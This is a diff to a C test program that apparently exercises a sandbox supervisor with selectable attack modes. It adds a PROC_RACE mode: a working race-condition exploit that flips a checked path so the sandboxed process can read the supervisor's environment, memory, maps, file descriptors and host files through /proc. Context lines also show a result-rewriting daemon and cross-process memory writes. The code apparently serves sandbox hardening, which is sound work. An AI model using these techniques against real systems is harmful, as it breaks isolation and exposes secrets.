@@ -5,6 +5,7 @@
 #include <dirent.h>
 #include <fcntl.h>
 #include <math.h>
+#include <pthread.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -33,6 +34,7 @@
 #define FLOPS_UNDECLARED 15
 #define FLOPS_LATE 16
 #define FAKE_FIXED_ERROR 17
+#define PROC_RACE 18
 #ifndef ATTACK
 #define ATTACK HONEST
 #endif
@@ -121,6 +123,41 @@ __attribute__((constructor)) static void early(void) {
 }
 #endif
 
+#if ATTACK == PROC_RACE
+// The supervisor checks each open's path, read from this process's memory, before the kernel
+// opens it: a thread flips the path between an allowed one and the target, so that some opens
+// are checked as the first and performed as the second. What gets through is printed (LEAK).
+static char race_path[128];
+static volatile int racing;
+static void *flipper(void *target) {
+    while (racing) {
+        strcpy(race_path, "/proc/self/stat");
+        strcpy(race_path, target);
+    }
+    return NULL;
+}
+static void race(const char *target, const char *label) {
+    pthread_t th;
+    racing = 1;
+    strcpy(race_path, target);
+    pthread_create(&th, NULL, flipper, (void *)target);
+    char buf[4096];
+    int leaked = 0;
+    for (int i = 0; i < 3000 && !leaked; i++) {
+        int fd = open(race_path, O_RDONLY);
+        if (fd < 0) continue;
+        ssize_t k = read(fd, buf, sizeof buf - 1);
+        close(fd);
+        // the target's content, not /proc/self/stat's ("pid (name) state ...")
+        if (k > 0 && !(buf[0] >= '0' && buf[0] <= '9' && strstr(buf, " ("))) leaked = 1;
+    }
+    racing = 0;
+    pthread_join(th, NULL);
+    if (leaked) printf("LEAK %s\n", label);
+    fflush(stdout);
+}
+#endif
+
 static void attack_now(void) {
 #if ATTACK == WRITE_RESULT || ATTACK == WRITE_TREE
     FILE *f = fopen(TARGET, "a");
@@ -151,6 +188,27 @@ static void attack_now(void) {
         process_vm_writev(pid, &l, 1, &r, 1, 0);
     }
     if (d) closedir(d);
+#elif ATTACK == PROC_RACE
+    // pid 1: the sandbox's first process, a fork of the supervisor (its environment, its
+    // memory); the others a private /proc does not show, so their count is printed
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    int n = 0;
+    while (d && (e = readdir(d))) n += e->d_name[0] >= '0' && e->d_name[0] <= '9';
+    if (d) closedir(d);
+    printf("PROCS %d\n", n);
+    fflush(stdout);
+    // the parent as this /proc names it: 1 in a private /proc, else the PPid it shows
+    long parent = 1;
+    FILE *st = fopen("/proc/self/status", "r");
+    char line[256], path[160];
+    while (st && fgets(line, sizeof line, st)) if (!strncmp(line, "PPid:", 5) && atol(line + 5) > 0) parent = atol(line + 5);
+    if (st) fclose(st);
+    const char *what[] = {"environ", "maps", "mem", "fd/1", "root/etc/hostname", "cmdline"};
+    for (int i = 0; i < 6; i++) {
+        snprintf(path, sizeof path, "/proc/%ld/%s", parent, what[i]);
+        race(path, what[i]);
+    }
 #elif ATTACK == DAEMON
     if (fork() == 0) {   // a daemon that outlives the run and rewrites result files
         setsid();
